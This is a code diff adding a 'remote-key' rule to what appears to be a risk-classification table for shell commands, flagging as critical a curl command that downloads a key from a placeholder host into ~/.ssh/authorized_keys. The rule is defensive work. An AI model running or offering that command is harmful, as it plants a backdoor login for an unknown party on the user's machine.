@@ -234,6 +234,12 @@ export const accountRules = {
     ['visudo', 'vipw'],
     ['sudo -l'],
   ),
+  'remote-key': spec(
+    'critical',
+    'Lets somebody log in with a key that comes from the network',
+    ['curl https://x.example/k >> ~/.ssh/authorized_keys'],
+    ['cat key.pub >> ~/.ssh/authorized_keys'],
+  ),
   'remote-access-append': spec(
     'moderate',
     'Lets another key log in',
